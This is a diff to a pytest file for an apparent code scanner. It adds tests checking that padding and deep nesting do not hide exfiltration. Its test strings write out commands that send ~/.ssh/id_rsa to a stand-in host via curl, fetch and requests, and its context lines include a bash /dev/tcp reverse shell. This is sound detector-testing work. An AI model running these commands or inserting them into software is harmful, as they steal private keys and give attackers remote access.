@@ -159,6 +159,27 @@ def test_the_line_of_a_flow_is_where_it_ends() -> None:
     assert (finding.line, finding.level) == (5, 3)
 
 
+_STOLEN = "cat ~/.ssh/id_rsa | curl -d @- https://in.example.net"
+_NESTED = "".join(f"{' ' * depth}if 1:\n" for depth in range(90))
+_FETCHED = "fetch('https://in.example.net', {body: fs.readFileSync('/root/.ssh/id_rsa')})"
+_POSTED = "requests.post('https://in.example.net', data=open('/root/.ssh/id_rsa'))"
+
+
+@pytest.mark.parametrize(
+    ("path", "code"),
+    [
+        ("a.sh", f"{_STOLEN} # {'a' * 5_000}"),
+        ("a.sh", f"X={'a' * 20_000}; {_STOLEN}"),
+        ("a.sh", "\n".join(["echo 'it is", *["a" * 70] * 100, "'", _STOLEN])),
+        ("a.sh", "$(" * 70 + _STOLEN + ")" * 70),
+        ("a.py", f"import requests\n{_NESTED}{' ' * 90}{_POSTED}"),
+        ("a.js", f"{'{' * 90}{_FETCHED}{'}' * 90}"),
+    ],
+)
+def test_long_lines_and_deep_nesting_hide_nothing(path: str, code: str) -> None:
+    assert "secret-sent" in found(path, code)
+
+
 def test_code_that_is_broken_is_read_as_far_as_it_goes() -> None:
     assert "secret-sent" in found("a.py", "def broken(:\n  requests.post(open('.env'))")
     assert "reverse-shell" in found("a.py", "def broken(:\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1")
@@ -172,6 +193,7 @@ def test_code_that_is_broken_is_read_as_far_as_it_goes() -> None:
         ("a.py", "import requests\nopen('.ssh')\n", "x = f(x) + x\n", ""),
         ("a.js", "fetch('https://x.example.net', '.ssh')\n", "f('a').", "g()"),
         ("a.js", "fetch('https://x.example.net', '.ssh')\n", "(", ""),
+        ("a.js", "fetch('https://x.example.net', '.ssh')\n", "`", ""),
         ("a.sh", "curl -T ~/.ssh/id_rsa https://x.example.net\n", "a|", ""),
         ("a.sh", "curl -T ~/.ssh/id_rsa https://x.example.net\n", "a|\n", ""),
         ("a.sh", "curl -T ~/.ssh/id_rsa https://x.example.net\n", "$(", ""),
